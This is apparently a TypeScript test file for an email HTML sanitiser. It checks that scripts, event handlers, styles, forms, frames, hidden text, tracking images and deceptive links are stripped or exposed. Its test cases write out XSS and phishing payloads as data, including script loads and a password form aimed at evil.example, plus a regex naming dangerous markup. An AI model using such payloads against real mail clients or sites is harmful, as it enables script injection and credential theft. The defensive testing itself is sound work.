import { load } from 'cheerio'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { letter } from '../../../testing/mail/letters.ts'
import type { MailAsSent } from '../index.ts'
import { startMailReader, type MailReader } from './start-mail-reader.ts'

let reader: MailReader
beforeAll(() => {
  reader = startMailReader()
})
afterAll(() => reader.stop())

async function shown(body: string | Buffer, type = 'text/html; charset=utf-8'): Promise<MailAsSent> {
  const read = await reader.asSent(letter({ type, body }))
  if (!read.ok) throw new Error(read.error)
  return read.value
}
async function bodyOf(html: string): Promise<string> {
  return load((await shown(html)).document ?? '')('body').html() ?? ''
}

/** Whatever acts, fetches, leads away or styles. */
const HARM =
  /<(script|style|meta|base|form|input|button|svg|math|iframe|object|embed|link|template|noscript|a)\b|\son\w+\s*=|\sstyle\s*=|\shref\s*=|\ssrcset|\sid\s*=|javascript:|url\(|https?:\/\/[^\s"\]]*\.example\/[a-z]/i

test.each([
  ['a script', '<p>Kia ora<script>alert(1)</script><scr<script>ipt>alert(1)</script>'],
  ['a script in capitals that is never closed', '<p>Kia ora</p><SCRIPT SRC=//evil.example/x.js>alert(1)'],
  [
    'an event',
    '<p onclick=alert(1) onmouseover="alert(1)">Kia ora<img src=x onerror=alert(1)><body onload=alert(1)>',
  ],
  ['a style sheet', '<style>@import url(https://evil.example/a.css);p{display:none}</style><p>Kia ora'],
  ['a style', '<p style="background:url(https://evil.example/a);position:fixed;inset:0;z-index:9">Kia ora'],
  ['a refresh', '<meta http-equiv=refresh content="0;url=https://evil.example/a"><p>Kia ora'],
  ['a base', '<base href=https://evil.example/a target=_top><p>Kia ora'],
  [
    'a form',
    '<form action=https://evil.example/a><input name=password><button>Sign in</button>Kia ora</form>',
  ],
  ['SVG', '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg><p>Kia ora'],
  [
    'MathML',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mtext></math><p>Kia ora',
  ],
  ['a template', '<template><img src=x onerror=alert(1)></template><p>Kia ora'],
  [
    'words for no script',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><p>Kia ora',
  ],
  [
    'a comment',
    '<!--><img src=x onerror=alert(1)>--><!--[if mso]><script>alert(1)</script><![endif]--><p>Kia ora',
  ],
  ['a frame', '<iframe srcdoc="<script>alert(1)</script>" src=https://evil.example/a></iframe><p>Kia ora'],
  [
    'a link to a script',
    '<a href=" java\nscript:alert(1)">Kia ora</a><a href="data:text/html,<script>">x</a>',
  ],
  [
    'a picture that is a page',
    '<img src="data:image/svg+xml;base64,PHN2Zz4="><img src="data:text/html,x"><p>Kia ora',
  ],
  ['attributes of our own marks', '<span class="was-hidden" id=a data-host="safe.example">Kia ora</span>'],
  ['plain text without end', '<p>Kia ora<plaintext><script>alert(1)</script>'],
  ['text within a text field', '<textarea></textarea><img src=x onerror=alert(1)>--></textarea><p>Kia ora'],
])('nothing is left of %s but its words', async (_what, html) => {
  const body = await bodyOf(html)
  expect(body).toContain('Kia ora')
  expect(body).not.toMatch(HARM)
  expect(body).not.toContain('safe.example')
})

test('pictures elsewhere are not fetched, and counted by where they lie', async () => {
  const { document, pictures } = await shown(
    `<body background="https://track.example/b.gif"><img src=https://track.example/1.gif><img alt="Our shop" src=//cdn.example/2.png>
     <img srcset="https://track.example/3.gif 2x"><p style="background-image:url('http://track.example/4.gif')">Kia ora</p>
     <img src="data:image/png;base64,iVBORw0KGgo=" alt=Logo>`,
  )
  expect(pictures).toEqual([
    { host: 'track.example', count: 4 },
    { host: 'cdn.example', count: 1 },
  ])
  const $ = load(document ?? '')
  expect(
    $('img')
      .map((_, img) => $(img).attr('src'))
      .get(),
  ).toEqual(['data:image/png;base64,iVBORw0KGgo='])
  expect($('[data-host="cdn.example"]').attr('data-words')).toBe('Our shop')
})

test('a link says where it really leads, and cannot be followed', async () => {
  const { document, links } = await shown(
    `<a href="https://www.bank.example@evil.example/a?b=1">www.bank.example</a> <a href="https://bаnk.example">bank</a>
     <a href="mailto:ask@other.example">write</a>`,
  )
  const $ = load(document ?? '')
  expect($('a')).toHaveLength(0)
  expect(
    $('.link')
      .map((_, link) => $(link).attr('data-host'))
      .get(),
  ).toEqual(['evil.example', 'xn--bnk-6cd.example', 'ask@other.example'])
  expect(links[0]).toEqual({
    host: 'evil.example',
    address: 'https://www.bank.example@evil.example/a?b=1',
  })
})

test.each([
  'display:none',
  'display :\n NONE !important',
  'visibility:hidden',
  'font-size:0px',
  'opacity:0',
  'max-height:0;overflow:hidden',
  'position:absolute;left:-9999px',
  'color:#ffffff',
  'mso-hide:all',
])('what was hidden by %s is shown and named', async (style) => {
  const { document, hidden } = await shown(`<p>Yes.</p><div style="${style}">Pay to 12-3456.</div>`)
  expect(hidden).toBe(1)
  expect(load(document ?? '')('.was-hidden').text()).toBe('Pay to 12-3456.')
})

test('words that are written backwards or cannot be seen are not', async () => {
  expect(await bodyOf('<p>a\u202eb\u2066c</p>')).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/u)
})

test('200,000 nested boxes are shown as far as the limit, within seconds', async () => {
  const started = performance.now()
  const found = await shown(`<p>start</p>${'<div>'.repeat(200_000)}end`)
  expect(found).toMatchObject({ cut: true })
  expect(found.document).toContain('start')
  expect(performance.now() - started).toBeLessThan(15_000)
})

test('twenty megabytes are cut, and the next mail is read', async () => {
  const found = await shown(Buffer.alloc(20 * 1024 * 1024, '<b>Kia ora</b> '))
  expect(found.cut).toBe(true)
  expect(found.document?.length).toBeLessThan(1024 * 1024)
  expect(await bodyOf('<p>next</p>')).toContain('next')
})

test.each([
  ['windows-1252', Buffer.from([0x3c, 0x70, 0x3e, 0x93, 0x80, 0x94])],
  ['utf-8', Buffer.from('<meta charset=utf-16><p>“€”')],
])('a mail in %s is shown in the letters that it was written in', async (charset, body) => {
  expect((await shown(body, `text/html; charset=${charset}`)).document).toContain('“€”')
})

test('a mail in letters that nobody knows is shown as well as it can be', async () => {
  expect((await shown('<p>Kia ora</p>', 'text/html; charset=klingon')).document).toContain('Kia ora')
})

test('what passes for words in UTF-7 stays words', async () => {
  const { document } = await shown('<p>+ADw-script+AD4-alert(1)</p>', 'text/html; charset=utf-7')
  expect(document).not.toContain('<script')
})

test('a mail of plain words has nothing else to show', async () => {
  expect(await shown('Kia ora', 'text/plain')).toMatchObject({ document: undefined })
})
